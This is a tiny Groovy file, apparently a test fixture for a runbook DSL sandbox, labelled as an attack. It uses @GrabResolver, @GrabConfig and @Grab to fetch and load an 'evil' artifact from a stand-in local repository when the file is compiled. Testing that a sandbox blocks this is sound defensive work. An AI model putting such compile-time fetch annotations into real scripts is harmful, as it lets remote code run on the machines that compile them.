// Attack: @Grab and its friends fetch and load code while the file is compiled.
@GrabResolver(name = 'evil', root = 'http://127.0.0.1:9/repo')
@GrabConfig(systemClassLoader = true)
@Grab('org.example:evil:1.0')
def unused = 1
runbook { name 'grab' }
steps { }
